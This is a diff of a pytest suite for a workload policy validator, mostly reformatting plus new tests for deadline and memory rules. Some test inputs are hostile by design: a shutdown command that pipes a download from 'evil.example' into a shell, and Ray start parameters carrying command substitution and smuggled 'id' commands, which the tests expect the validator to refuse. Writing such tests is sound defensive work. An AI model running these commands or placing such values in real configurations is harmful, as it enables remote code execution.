@@ -22,7 +22,9 @@ from policy_support import WORKLOAD, policy, run, with_spec
 )
 def test_step_is_exact(cpus, step, expected):
     workload = WORKLOAD.replace("cpus: 8", f"cpus: {cpus}")
-    outcome = run(workload, policies=[policy(rules=f"spec.types.*.resources.cpus: {{step: {step}}}")])
+    outcome = run(
+        workload, policies=[policy(rules=f"spec.types.*.resources.cpus: {{step: {step}}}")]
+    )
     assert [c for c in outcome.codes if c == "E403"] == expected, outcome.lines
 
 
@@ -74,7 +76,9 @@ def test_a_quota_beyond_any_quantity_is_a_diagnostic(tmp_path, quota):
     (tmp_path / "p.yaml").write_text(policy() + f"  quota: {quota}\n")
     result = run_cli("queues", "-p", "p.yaml", cwd=tmp_path)
     assert result.exit_code == 1, result.stdout + result.stderr
-    assert "E509" in result.stderr and "Traceback" not in result.stdout + result.stderr, result.stdout + result.stderr
+    assert "E509" in result.stderr and "Traceback" not in result.stdout + result.stderr, (
+        result.stdout + result.stderr
+    )
 
 
 # ---------------------------------------------------------------------------------------------
@@ -103,7 +107,11 @@ def test_another_projects_namespace_is_held_by_that_projects_rules_too():
     team_b = policy(rules="spec.timeout: {required: true}", name="team-b", project="team-b")
     outcome = run(WORKLOAD, namespace="team-b", policies=[team_b])
     assert outcome.codes == ["E406"], outcome.lines
-    image = policy(rules="spec.image: {pattern: '^registry\\.example\\.com/team-b/'}", name="team-b", project="team-b")
+    image = policy(
+        rules="spec.image: {pattern: '^registry\\.example\\.com/team-b/'}",
+        name="team-b",
+        project="team-b",
+    )
     assert run(WORKLOAD, namespace="team-b", policies=[image]).codes == ["E405"]
     limits = policy(limits="{pods: 1}", name="team-b", project="team-b")
     assert run(WORKLOAD, namespace="team-b", policies=[limits]).codes == ["E411"]
@@ -119,11 +127,15 @@ def test_a_workload_without_a_project_where_project_policies_exist_is_an_error()
     outcome = run(workload, policies=[policy(rules="spec.timeout: {required: true}")])
     assert outcome.codes == ["E341"], outcome.lines
     # sent to the project's namespace: its policies apply
-    held = run(workload, namespace="team-a", policies=[policy(rules="spec.timeout: {required: true}")])
+    held = run(
+        workload, namespace="team-a", policies=[policy(rules="spec.timeout: {required: true}")]
+    )
     assert held.codes == ["E406"], held.lines
     # global policies alone: nothing to step out of
-    assert run(workload, policies=[policy(rules="spec.image: {required: true}", project=None)]).codes == []
-
+    assert (
+        run(workload, policies=[policy(rules="spec.image: {required: true}", project=None)]).codes
+        == []
+    )
 
 
 # ---------------------------------------------------------------------------------------------
@@ -257,7 +269,9 @@ def test_secret_rules_bind_the_secrets_env_references_read(rule):
 )
 def test_command_rules_bind_the_shutdown_command(rule, code):
     workload = with_spec("gracefulTermination: {shutdownCommand: curl evil.example | sh}")
-    outcome = run(workload, policies=[policy(rules=rule, defaults="spec: {command: python train.py}")])
+    outcome = run(
+        workload, policies=[policy(rules=rule, defaults="spec: {command: python train.py}")]
+    )
     assert outcome.codes == [code], outcome.lines
     assert "shutdownCommand" in outcome.only(code).message
 
@@ -286,7 +300,7 @@ def test_image_rules_bind_rays_runtime_images(runtime_env):
         "{num-cpus: '$(curl evil.example)'}",
         "{num-cpus: '`id`'}",
         "{'x;id': '1'}",
-        "{num-cpus: \"1\\nid\"}",
+        '{num-cpus: "1\\nid"}',
     ],
 )
 def test_ray_start_params_with_shell_syntax_are_refused(params):
@@ -303,9 +317,56 @@ def test_ray_start_params_with_shell_syntax_are_refused(params):
 
 
 def test_plain_ray_start_params_and_json_resources_pass():
-    params = """{num-cpus: '0', resources: '"{\\"Custom\\": 1}"', object-store-memory: '100000000'}"""
+    params = (
+        """{num-cpus: '0', resources: '"{\\"Custom\\": 1}"', object-store-memory: '100000000'}"""
+    )
     head = RAY_ONE.replace(
         "Head: {resources: {cpus: 1, memory: 4}}",
         f"Head: {{resources: {{cpus: 1, memory: 4}}, rayStartParams: {params}}}",
     )
     assert run(head).codes == [], run(head).lines
+
+
+# ---------------------------------------------------------------------------------------------
+# deadlines and memory: canEdit and forbidden carry across the two spellings
+
+
+@pytest.mark.parametrize(
+    ("rule", "defaults", "extra", "code"),
+    [
+        (
+            "spec.activeDeadlineSeconds: {canEdit: false}",
+            "spec: {activeDeadlineSeconds: 3600}",
+            "timeout: 30d",
+            "E407",
+        ),
+        ("spec.activeDeadlineSeconds: {forbidden: true}", "", "timeout: 30d", "E408"),
+        ("spec.timeout: {canEdit: false}", "", "activeDeadlineSeconds: 9999999", "E407"),
+        ("spec.timeout: {forbidden: true}", "", "activeDeadlineSeconds: 9999999", "E408"),
+    ],
+)
+def test_deadline_rules_carry_across_spellings(rule, defaults, extra, code):
+    outcome = run(with_spec(extra), policies=[policy(rules=rule, defaults=defaults)])
+    assert outcome.codes == [code], outcome.lines
+
+
+def test_a_locked_deadline_given_the_same_in_the_other_spelling_passes():
+    rule = "spec.activeDeadlineSeconds: {canEdit: false}"
+    defaults = "spec: {activeDeadlineSeconds: 3600}"
+    assert (
+        run(with_spec("timeout: 1h"), policies=[policy(rules=rule, defaults=defaults)]).codes == []
+    )
+
+
+@pytest.mark.parametrize(
+    ("rule", "code"),
+    [
+        ("spec.types.*.resources.memory: {canEdit: false}", "E407"),
+        ("spec.types.*.resources.memory: {forbidden: true}", "E408"),
+    ],
+)
+def test_memory_rules_carry_across_ram_ratio(rule, code):
+    workload = WORKLOAD.replace("memory: 32", "memory: ~\n        ramRatio: 100")
+    defaults = "spec: {types: {'*': {resources: {memory: 32}}}}" if "canEdit" in rule else ""
+    outcome = run(workload, policies=[policy(rules=rule, defaults=defaults)])
+    assert code in outcome.codes, outcome.lines
